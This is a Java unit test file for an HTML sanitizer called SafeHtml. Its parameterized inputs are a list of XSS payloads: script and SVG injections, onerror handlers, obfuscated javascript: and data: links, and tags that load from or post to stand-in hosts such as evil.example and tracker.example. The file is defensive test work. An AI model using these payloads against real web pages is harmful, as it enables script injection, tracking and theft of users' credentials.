package de.kundenblick.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.regex.Pattern;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {
    private static final Pattern TAG = Pattern.compile("<[^>]*>");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://tracker.example/pixel.gif?who=anna' width=1 height=1>",
                "<svg onload=alert(1)><circle/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mi xlink:href='data:x,alert(1)'></mi></math>",
                "<a href='javascript:alert(1)'>hier</a>",
                "<a href=' &#106;avascript:alert(1)'>hier</a>",
                "<a href='jav\tascript:alert(1)'>hier</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>hier</a>",
                "<a href='vbscript:x'>hier</a>",
                "<p onclick=alert(1) style='background:url(https://tracker.example)'>Text</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data='x.swf'></object><embed src='x.swf'>",
                "<form action='https://evil.example'><input name=password><button>Los</button></form>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<video poster='https://tracker.example/p.png'><source src='https://tracker.example/v.mp4'></video>",
                "<table background='https://tracker.example/t.png'><tr><td>Zelle</td></tr></table>",
                "<picture><source srcset='https://tracker.example/p.png'></picture>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<div id='messages' class='card' name='x'>Text</div>",
                "<template><img src=x onerror=alert(1)></template>"
            })
    void nothingIsRunAndNothingIsFetched(String html) {
        String tags = tagsOf(SafeHtml.of(html));

        assertThat(tags)
                .doesNotContain("<script", "<img", "<svg", "<style", "<link", "<iframe", "<object", "<embed", "<form")
                .doesNotContain("<input", "<button", "<base", "<meta", "<video", "<source", "<math", "<template")
                .doesNotContain("javascript", "vbscript", "data:", " on", "style=", "background", "id=", "class=");
    }

    @Test
    void textAndStructureStay() {
        String html =
                "<h2>Guten Tag</h2><p>eine <b>wichtige</b> Frage:</p><ul><li>eins</li></ul><blockquote>Zitat</blockquote>"
                        + "<table><tbody><tr><td colspan=\"2\">Zelle</td></tr></tbody></table>";

        assertThat(SafeHtml.of(html)).isEqualTo(html);
    }

    @Test
    void linksTellTheirTargetNothing() {
        assertThat(SafeHtml.of("<a href=\"https://example.org/a?b=c\">Seite</a>"))
                .contains("href=\"https://example.org/a?b&#61;c\"")
                .contains("target=\"_blank\"")
                .contains("rel=\"noopener noreferrer nofollow\"");
    }

    @Test
    void whatWasLeftOpenIsClosed() {
        assertThat(SafeHtml.of("<div><b>halb")).isEqualTo("<div><b>halb</b></div>");
        assertThat(SafeHtml.of("</div></main>Text")).isEqualTo("Text");
        assertThat(SafeHtml.of(null)).isEmpty();
    }

    @Test
    void cleanHtmlStaysAsItIs() {
        String once = SafeHtml.of("<p>5 < 6 & „ok“ <a href='mailto:a@b.de'>Mail</a></p>");

        assertThat(SafeHtml.of(once)).isEqualTo(once);
    }

    @Property(tries = 300)
    void noTextBecomesATagThatIsNotAllowed(@ForAll @StringLength(max = 40) String text) {
        assertThat(tagsOf(SafeHtml.of("<p><img src='" + text + "'><script>" + text + "</script>" + text)))
                .doesNotContain("<script", "<img");
    }

    private static String tagsOf(String html) {
        var tags = new StringBuilder();
        TAG.matcher(html).results().forEach(tag -> tags.append(tag.group()));
        return tags.toString().toLowerCase(Locale.ROOT);
    }
}
